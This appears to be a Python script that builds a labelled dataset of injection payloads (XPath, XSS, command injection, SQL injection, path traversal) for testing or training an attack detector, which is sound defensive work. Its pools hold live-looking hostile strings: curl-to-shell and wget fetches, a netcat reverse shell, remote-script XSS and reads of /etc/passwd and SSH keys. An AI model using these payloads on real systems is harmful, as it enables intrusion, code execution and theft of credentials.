add("ldap-xpath", "xpath",
    "Glenmore' or '1'='1",
    "x' or name()='password' or 'a'='b",
    "']|//user/password|//*['",
    "1' or count(/*)=1 or '1'='2",
    "' or substring(//user[1]/pass,1,1)='a' or ''='",
    "tama\"] | //* | //*[\"",
    "') or contains(//invoice/bank,'12') or ('",
    "x' and string-length(name(/*[1]))>3 and '1'='1",
    "doc('http://attacker.example/x.xml')//a",
    "' or 1=1]/../../* | //*['",
)

# -------- generated part (<10%): pool payload joined to theme prefix / urlencode --------
PREFIXES = ["Glenmore booking note: ", "Tally run 3 - ", "Bale 21 comment: ",
            "Hi team, ", "Crew quarters: ", "INV-0533 memo "]
XSS_POOL = ["<img src=1 onerror=alert(7)>", "<svg onload=fetch('//attacker.example/p')>",
            "<script src=//attacker.example/t.js></script>", "<body onpageshow=alert(3)>",
            "<iframe srcdoc=\"<script>parent.alert(4)</script>\">",
            "<a href=javascript:alert(5)>tally</a>"]
CMDI_POOL = ["; curl attacker.example/q | sh", "&& cat /etc/passwd", "| id",
             "$(wget -qO- 203.0.113.11/x)", "`nc 198.51.100.22 9 -e sh`", "; uname -a #"]
SQLI_ENC = ["Glenmore' UNION SELECT email,pw FROM users--",
            "1 AND SLEEP(5)-- ",
            "Kiri' OR '1'='1'-- ",
            "x'; DROP TABLE invoices;--",
            "1) union select 1,version()#",
            "tama' and extractvalue(1,concat(0x7e,user()))-- ",
            "0 or 1=1 limit 1",
            "'; exec xp_cmdshell 'dir'--"]
TRAV_ENC = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
            "exports/../../../proc/self/environ", "../../../.env",
            "../../../../home/office/.ssh/id_rsa"]


def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    n_lit = len(L)
    gen = []
    seen = set(v for _, _, v in L)
    assert len(seen) == len(L), "duplicate literal"

    def push(cat, cls, v):
        if v in seen:
            return False
        seen.add(v)
        gen.append((cat, cls, v))
        return True

    for p in SQLI_ENC:
        push("sqli", "sqli+urlencode", pct(p))
    for p in TRAV_ENC:
        push("traversal", "dotdot+urlencode", pct(p))
    for pool, cat, cls, k in ((XSS_POOL, "xss", "tag", 9), (CMDI_POOL, "cmdi", "separator", 7)):
        c = 0
        while c < k:
            v = rng.choice(PREFIXES) + rng.choice(pool)
            if push(cat, cls, v):
                c += 1
    allv = L + gen
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    for cat in order:
        rows.extend(r for r in allv if r[0] == cat)
    assert len(rows) == len(allv)
    for cat, cls, v in rows:
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, repr(v)
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hakc-%05d" % i, "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    print("wrote", len(rows), "literals", n_lit, "generated", len(gen))


if __name__ == "__main__":
    main()
